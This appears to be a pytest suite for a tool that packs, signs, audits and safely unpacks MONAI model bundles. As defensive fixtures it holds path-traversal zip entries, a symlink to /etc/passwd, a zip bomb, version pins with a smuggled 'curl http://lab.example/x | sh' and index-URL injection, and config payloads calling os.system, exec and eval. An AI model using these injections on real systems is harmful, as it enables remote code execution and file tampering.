import hashlib
import importlib.util
import json
import marshal
import re
import stat
import subprocess
import sys
import zipfile
from importlib import metadata

import pytest
import torch

from monai_ext.sharing.checkpoint import (
    CheckpointIntegrityError,
    atomic_torch_save,
    manifest_bytes,
    read_manifest,
    record_sha256,
)
from monai_ext.sharing.exchange import unpack
from monai_ext.sharing.packaging import (
    PACKAGE_MANIFEST,
    PackageError,
    install_instructions,
    pack_bundle,
    unpack_bundle,
)
from monai_ext.sharing.signing import SIGNATURE_FILE

SHIPPED = [
    "LICENSE",
    "configs/inference.json",
    "configs/logging.conf",
    "configs/metadata.json",
    "configs/train.json",
    "docs/README.md",
    "models/model.pt",
    "models/sha256_manifest.json",
    "scripts/prepare.py",
]
LEFT_OUT = [
    "models/checkpoint_epoch=3.pt",
    "eval/metrics.csv",
    "runs/events.out.tfevents.123.host",
    "logs/train.log",
    "dataset/imagesTr/case0.nii.gz",
    "configs/__pycache__/x.cpython-311.pyc",
    "scripts/__pycache__/prepare.cpython-311.pyc",
    "docs/.ipynb_checkpoints/README-checkpoint.md",
    "models/.partial-model.pt.x1",
    "train.log",
    "notes.txt",
]


@pytest.fixture
def bundle(tmp_path):
    root = tmp_path / "my_bundle"
    for name in SHIPPED + LEFT_OUT:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        if name == "configs/metadata.json":
            (root / name).write_text(json.dumps({"version": "0.1.0", "optional_packages_version": {"tqdm": "4.66.0"}}))
        elif name.endswith(".json") and name.startswith("configs/"):
            (root / name).write_text(json.dumps({"imports": ["$import monai_ext"], "x": f"$len('{name}')"}))
        elif name != "models/sha256_manifest.json":
            (root / name).write_text(f"contents of {name}\n")
    (root / "configs" / "logging.conf").write_text("[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n")
    atomic_torch_save({"w": torch.arange(3.0)}, root / "models" / "model.pt")
    record_sha256(root / "models" / "model.pt")
    record_sha256(root / "models" / "checkpoint_epoch=3.pt")  # recorded, as a run does, and left out of archives
    return root


def _zip(path, entries, manifest_files=None, links=()):
    """Write a zip by hand: ``entries`` name -> bytes, a manifest listing ``manifest_files`` (default: all)."""
    files = {name: hashlib.sha256(data).hexdigest() for name, data in entries.items()}
    manifest = {"format": "monai_ext-bundle-package/1", "bundle": "b", "versions": {}, "files": manifest_files or files}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(PACKAGE_MANIFEST, json.dumps(manifest))
        for name, data in entries.items():
            archive.writestr(name, data)
        for name, target in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def test_pack_ships_only_bundle_files_with_hashes_and_versions(bundle, tmp_path):
    manifest = pack_bundle(bundle, tmp_path / "out.zip")
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        names = archive.namelist()
        stored = json.loads(archive.read(PACKAGE_MANIFEST))
    assert names == [PACKAGE_MANIFEST, *SHIPPED]
    assert stored == manifest
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        shipped_records = json.loads(archive.read("models/sha256_manifest.json"))["files"]
    assert list(shipped_records) == ["model.pt"], "the archive's SHA-256 manifest lists exactly what it holds"
    assert shipped_records["model.pt"] == read_manifest(bundle / "models")["model.pt"]
    assert "checkpoint_epoch=3.pt" in read_manifest(bundle / "models"), "the bundle's own manifest is left as it is"
    written = {name: hashlib.sha256((bundle / name).read_bytes()).hexdigest() for name in SHIPPED}
    written["models/sha256_manifest.json"] = hashlib.sha256(manifest_bytes(shipped_records)).hexdigest()
    assert manifest["files"] == written
    assert manifest["versions"]["torch"] == metadata.version("torch")
    assert manifest["versions"]["monai"] == metadata.version("monai")
    assert manifest["bundle"] == "my_bundle"
    # the same bundle gives byte-identical archives
    pack_bundle(bundle, tmp_path / "again.zip")
    assert (tmp_path / "again.zip").read_bytes() == (tmp_path / "out.zip").read_bytes()


def test_round_trip_gives_identical_files(bundle, tmp_path):
    pack_bundle(bundle, tmp_path / "out.zip")
    unpack_bundle(tmp_path / "out.zip", tmp_path / "received")
    received = sorted(p.relative_to(tmp_path / "received").as_posix() for p in (tmp_path / "received").rglob("*"))
    assert [name for name in received if (tmp_path / "received" / name).is_file()] == SHIPPED
    for name in SHIPPED:
        if name != "models/sha256_manifest.json":
            assert (tmp_path / "received" / name).read_bytes() == (bundle / name).read_bytes()
    assert read_manifest(tmp_path / "received" / "models") == {"model.pt": read_manifest(bundle / "models")["model.pt"]}
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".unpack-")] == []


def test_pack_refuses_a_model_that_differs_from_its_record(bundle, tmp_path):
    torch.save({"w": torch.zeros(3)}, bundle / "models" / "model.pt")
    with pytest.raises(CheckpointIntegrityError, match=r"model\.pt: SHA-256 mismatch"):
        pack_bundle(bundle, tmp_path / "out.zip")
    assert not (tmp_path / "out.zip").exists()


def test_pack_refuses_links(bundle, tmp_path):
    (bundle / "configs" / "extra.json").symlink_to("/etc/hostname")
    with pytest.raises(PackageError, match=r"extra\.json: is a link"):
        pack_bundle(bundle, tmp_path / "out.zip")


GOOD = {"configs/train.json": b'{"x": 1}'}


@pytest.mark.parametrize(
    ("entries", "manifest_files", "links", "message"),
    [
        ({**GOOD, "../evil.txt": b"x"}, None, (), r"entry '\.\./evil\.txt': path traversal refused"),
        ({**GOOD, "configs/../../evil.txt": b"x"}, None, (), r"'configs/\.\./\.\./evil\.txt': path traversal"),
        ({**GOOD, "/etc/evil.txt": b"x"}, None, (), r"entry '/etc/evil\.txt': absolute path refused"),
        (GOOD, None, [("configs/link.json", "/etc/passwd")], r"entry 'configs/link\.json': links are refused"),
        (GOOD, {"configs/train.json": "0" * 64}, (), r"entry 'configs/train\.json': SHA-256 mismatch"),
        ({**GOOD, "configs/extra.json": b"{}"}, {"configs/train.json": None}, (), r"'configs/extra\.json': not listed"),
        (GOOD, {"configs/train.json": None, "models/model.pt": "0" * 64}, (), r"missing: \['models/model\.pt'\]"),
    ],
    ids=["dotdot", "nested-dotdot", "absolute", "symlink", "hash", "unlisted", "missing"],
)
def test_unpack_refuses_unsafe_or_mismatching_archives(tmp_path, entries, manifest_files, links, message):
    if manifest_files is not None:
        manifest_files = {
            name: digest or hashlib.sha256(entries[name]).hexdigest() for name, digest in manifest_files.items()
        }
    archive = _zip(tmp_path / "doctored.zip", entries, manifest_files, links)
    with pytest.raises(PackageError, match=message):
        unpack_bundle(archive, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()
    assert not (tmp_path / "evil.txt").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["doctored.zip"]


def test_unpack_refuses_archives_without_manifest_and_non_empty_dest(tmp_path):
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr("configs/train.json", "{}")
    with pytest.raises(PackageError, match=f"no {PACKAGE_MANIFEST}"):
        unpack_bundle(tmp_path / "plain.zip", tmp_path / "dest")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("x")
    with pytest.raises(FileExistsError, match="not empty"):
        unpack_bundle(_zip(tmp_path / "ok.zip", GOOD), tmp_path / "full")


def test_unpack_checks_model_records_inside_the_archive(bundle, tmp_path):
    # An archive whose own manifest was rebuilt after swapping the model still fails the model's SHA-256 record.
    (bundle / "models" / "model.pt").write_bytes(b"swapped")
    entries = {name: (bundle / name).read_bytes() for name in SHIPPED}
    with pytest.raises(CheckpointIntegrityError, match=r"model\.pt: SHA-256 mismatch"):
        unpack_bundle(_zip(tmp_path / "swapped.zip", entries), tmp_path / "dest")
    assert not (tmp_path / "dest").exists(), "checked before DEST is created"


@pytest.mark.slow
def test_cli_round_trip_audits_and_prints_what_to_install(bundle, tmp_path, capsys):
    run = [sys.executable, "-m", "monai_ext"]
    packed = subprocess.run([*run, "pack", str(bundle), str(tmp_path / "b.zip")], capture_output=True, text=True)
    assert packed.returncode == 0, packed.stderr
    assert f"pack: wrote {tmp_path / 'b.zip'} with {len(SHIPPED)} files" in packed.stdout
    unpacked = subprocess.run([*run, "unpack", str(tmp_path / "b.zip"), str(tmp_path / "dest")],
                              capture_output=True, text=True)  # fmt: skip
    assert unpacked.returncode == 0, unpacked.stdout + unpacked.stderr
    assert f"{len(SHIPPED)} files verified" in unpacked.stdout
    assert "  scripts/prepare.py: scripts.prepare: 1 line of Python the configs can import" in unpacked.stdout
    dest = (tmp_path / "dest").resolve()
    # the archive holds a trained model: use it, or train anew elsewhere (training would refuse to replace it)
    assert f"run its trained model with:\n  python -m monai_ext run {dest} --config_file configs/inference.json" in (
        unpacked.stdout
    )
    assert f"run {dest} --config_file configs/train.json --ckpt_dir NEW_FOLDER" in unpacked.stdout
    assert re.search(r"\n7 items: 6 resolve to allowed objects, 1 listed above; 1 need review", unpacked.stdout)
    assert f"torch=={metadata.version('torch')}" in unpacked.stdout
    assert f"monai=={metadata.version('monai')}" in unpacked.stdout
    assert "tqdm==4.66.0" in unpacked.stdout
    doctored = _zip(tmp_path / "bad.zip", {**GOOD, "../evil.txt": b"x"})
    with pytest.raises(SystemExit) as exited:
        unpack(str(doctored), str(tmp_path / "d2"))
    assert exited.value.code == 1 and "path traversal refused" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("limit", "message"),
    [
        ({"max_ratio": 200}, "unpacks to .* times its packed size, more than max_ratio=200"),
        ({"max_files": 3}, "files, more than max_files=3"),
        ({"max_file_bytes": 1 << 20}, "'docs/zeros.bin': 4,194,304 bytes unpacked, more than max_file_bytes=1,048,576"),
        ({"max_total_bytes": 1 << 20}, "bytes unpacked in all, more than max_total_bytes=1,048,576"),
    ],
)
def test_unpack_limits_size_count_and_ratio_before_writing_anything(limit, message, bundle, tmp_path, capsys):
    (bundle / "docs" / "zeros.bin").write_bytes(bytes(4 << 20))  # 4 MiB that deflate packs about 1000:1
    pack_bundle(bundle, tmp_path / "bomb.zip")
    limits = {"max_ratio": 10_000, **limit}
    with pytest.raises(SystemExit):
        unpack(str(tmp_path / "bomb.zip"), str(tmp_path / "dest"), **limits)
    assert re.search(message, capsys.readouterr().out)
    assert not (tmp_path / "dest").exists() and list(tmp_path.glob(".unpack-*")) == []


@pytest.mark.parametrize(
    ("where", "name", "version"),
    [
        ("metadata", "monai-ext", "0.1.0 --index-url http://lab.example/simple"),
        ("metadata", "tqdm", "4.66.0 && curl http://lab.example/x | sh"),
        ("metadata", "evil @ http://lab.example/evil.whl", "1"),
        ("metadata", "tqdm; python_version > '3'", "1"),
        ("manifest", "torch", "2.13.0 --extra-index-url http://lab.example"),
    ],
)
def test_unpack_prints_only_plain_pep508_pins_and_refuses_the_rest(where, name, version, bundle, tmp_path, capsys):
    if where == "metadata":
        meta = {"version": "0.1.0", "required_packages_version": {name: version}}
        (bundle / "configs" / "metadata.json").write_text(json.dumps(meta))
    pack_bundle(bundle, tmp_path / "b.zip")
    if where == "manifest":

        def pin(entries):
            manifest = json.loads(entries[PACKAGE_MANIFEST])
            manifest["versions"][name] = version
            entries[PACKAGE_MANIFEST] = json.dumps(manifest).encode()

        _rewrite(tmp_path / "b.zip", pin)
    with pytest.raises(SystemExit):
        unpack(str(tmp_path / "b.zip"), str(tmp_path / "dest"))
    out = capsys.readouterr().out
    assert "not a PEP 508 requirement" in out or "not a plain name==version pin" in out
    assert "pip install" not in out and not (tmp_path / "dest").exists()


def test_the_printed_pip_line_installs_public_versions_and_says_where_monai_ext_comes_from():
    manifest = {"versions": {"python": "3.11.7", "monai-ext": "0.1.0", "monai": "1.6.1", "torch": "2.13.0+cpu"}}
    printed = install_instructions(manifest, {"required_packages_version": {"monai-ext": "0.1.0", "tqdm": "4.70.1"}})
    assert printed.splitlines() == [
        "made with Python 3.11.7; install the same versions with:",
        "  pip install monai==1.6.1 torch==2.13.0 tqdm==4.70.1",
        "  (made with torch==2.13.0+cpu: install the CPU or CUDA build of it that suits your machine)",
        "  monai-ext 0.1.0 is not on PyPI: install that version from the monai_ext repository the sending lab uses "
        "(pip install PATH_OR_GIT_URL_OF_MONAI_EXT)",
    ]


@pytest.fixture
def keys(tmp_path):
    from monai_ext.sharing.signing import keygen

    made = {}
    for lab in ("ours", "other"):
        made[lab] = (tmp_path / f"{lab}.key", tmp_path / f"{lab}.pub")
        keygen(str(made[lab][0]), str(made[lab][1]))
    assert stat.S_IMODE((tmp_path / "ours.key").stat().st_mode) == 0o600
    return made


def _rewrite(zip_path, change):
    with zipfile.ZipFile(zip_path) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    change(entries)
    with zipfile.ZipFile(zip_path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


def test_signed_archive_unpacks_only_for_the_trusted_key(bundle, keys, tmp_path, capsys):
    private, public = keys["ours"]
    pack_bundle(bundle, tmp_path / "signed.zip", sign=private)
    report = unpack(str(tmp_path / "signed.zip"), str(tmp_path / "dest"), trust=str(public))
    assert "signature: valid, signed by the trusted key" in report and str(public) in report
    # without --trust the signature is still checked; only whose key it is stays open
    report = unpack(str(tmp_path / "signed.zip"), str(tmp_path / "dest2"))
    assert "signature: valid, by key" in report and "pass --trust THEIR_PUBLIC_KEY to check whose key it is" in report

    pack_bundle(bundle, tmp_path / "plain.zip")
    refusals = {
        "other lab's key": (tmp_path / "signed.zip", keys["other"][1], "not by the trusted"),
        "unsigned": (tmp_path / "plain.zip", public, "is not signed"),
    }
    tampered = tmp_path / "tampered.zip"
    pack_bundle(bundle, tampered, sign=private)

    def add_a_file(entries):
        manifest = json.loads(entries[PACKAGE_MANIFEST])
        entries["scripts/extra.py"] = b"print('added after signing')\n"
        manifest["files"]["scripts/extra.py"] = hashlib.sha256(entries["scripts/extra.py"]).hexdigest()
        entries[PACKAGE_MANIFEST] = json.dumps(manifest, indent=1).encode()

    _rewrite(tampered, add_a_file)
    refusals["altered after signing"] = (tampered, public, "does not match the archive's manifest")
    for name, (archive, trusted, message) in refusals.items():
        dest = tmp_path / f"refused_{name.replace(' ', '_')}"
        with pytest.raises(SystemExit):
            unpack(str(archive), str(dest), trust=str(trusted))
        assert message in capsys.readouterr().out, name
        assert not dest.exists(), name

    # a signature that is present but no longer matches is refused without --trust too (MONAI has no signatures)
    def resign_with_a_stale_signature(entries):
        stale = zipfile.ZipFile(tmp_path / "signed.zip").read(SIGNATURE_FILE)
        entries[SIGNATURE_FILE] = stale

    stale = tmp_path / "stale.zip"
    pack_bundle(bundle, stale, sign=keys["other"][0])
    _rewrite(stale, add_a_file)
    _rewrite(stale, resign_with_a_stale_signature)
    for archive in (tampered, stale):
        with pytest.raises(SystemExit):
            unpack(str(archive), str(tmp_path / "refused_untrusted"))
        assert "does not match the archive's manifest" in capsys.readouterr().out, archive.name
        assert not (tmp_path / "refused_untrusted").exists()


def test_findings_are_installed_only_when_accepted_by_name(bundle, tmp_path, capsys):
    config = json.loads((bundle / "configs" / "train.json").read_text())
    config["payload"] = "$__import__('os').system('true')"
    (bundle / "configs" / "train.json").write_text(json.dumps(config))
    pack_bundle(bundle, tmp_path / "flagged.zip")

    def add_itk(entries):  # pack never ships a top-level module; a hand-made archive can, compiled too
        manifest = json.loads(entries[PACKAGE_MANIFEST])
        entries["itk.py"] = b"import os\n"
        entries["fire.pyc"] = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("", "fire", "exec"))
        for name in ("itk.py", "fire.pyc"):
            manifest["files"][name] = hashlib.sha256(entries[name]).hexdigest()
        entries[PACKAGE_MANIFEST] = json.dumps(manifest, indent=1).encode()

    _rewrite(tmp_path / "flagged.zip", add_itk)
    # the payload (hostile intent, which the sandbox stops), itk.py and fire.pyc (in place of libraries), and a logging
    # handler that writes to a local service each need a reviewer's word
    conf = (bundle / "configs" / "logging.conf").read_text() if (bundle / "configs" / "logging.conf").exists() else ""
    names = [
        "configs/train.json:payload", "configs/logging.conf:[handler_syslog] class", "fire.pyc:fire", "itk.py:itk",
    ]  # fmt: skip

    def add_syslog_handler(entries):
        manifest = json.loads(entries[PACKAGE_MANIFEST])
        text = entries["configs/logging.conf"].decode().replace("keys=consoleHandler", "keys=consoleHandler,syslog")
        entries["configs/logging.conf"] = (
            text + "\n[handler_syslog]\nclass=handlers.SysLogHandler\nargs=('/dev/log',)\n"
        ).encode()
        manifest["files"]["configs/logging.conf"] = hashlib.sha256(entries["configs/logging.conf"]).hexdigest()
        entries[PACKAGE_MANIFEST] = json.dumps(manifest, indent=1).encode()

    _rewrite(tmp_path / "flagged.zip", add_syslog_handler)
    assert conf, "the bundle ships a logging.conf"

    for accepted in ((), names[:1]):
        with pytest.raises(SystemExit):
            unpack(str(tmp_path / "flagged.zip"), str(tmp_path / "dest"), accept=list(accepted))
        out = capsys.readouterr().out
        assert "the audit has findings that need review, and nothing was installed" in out
        assert "--accept " + ",".join(n for n in names if n not in accepted) in out
        assert not (tmp_path / "dest").exists()

    report = unpack(str(tmp_path / "flagged.zip"), str(tmp_path / "dest"), accept=",".join(names))
    assert f"findings you accepted: {', '.join(sorted(names))}" in report and (tmp_path / "dest" / "itk.py").is_file()
    assert "  configs/train.json: payload: $__import__('os').system('true')" in report


def test_each_finding_has_an_acceptance_name_of_its_own():
    from monai_ext.sharing.audit import AuditItem
    from monai_ext.sharing.exchange import acceptance_names

    items = [
        AuditItem("configs/train.json", "payload", "expression", "$exec('1')", group="stopped"),
        AuditItem("configs/train.json", "payload", "expression", "$eval('1')", group="stopped"),
        AuditItem("itk.py", "itk", "module", "itk.py", group="code"),
        AuditItem("configs/train.json", "payload", "_target_", "builtins.exec", group="stopped"),
    ]
    assert acceptance_names(items) == [
        "configs/train.json:payload", "configs/train.json:payload#2", "itk.py:itk", "configs/train.json:payload#3",
    ]  # fmt: skip
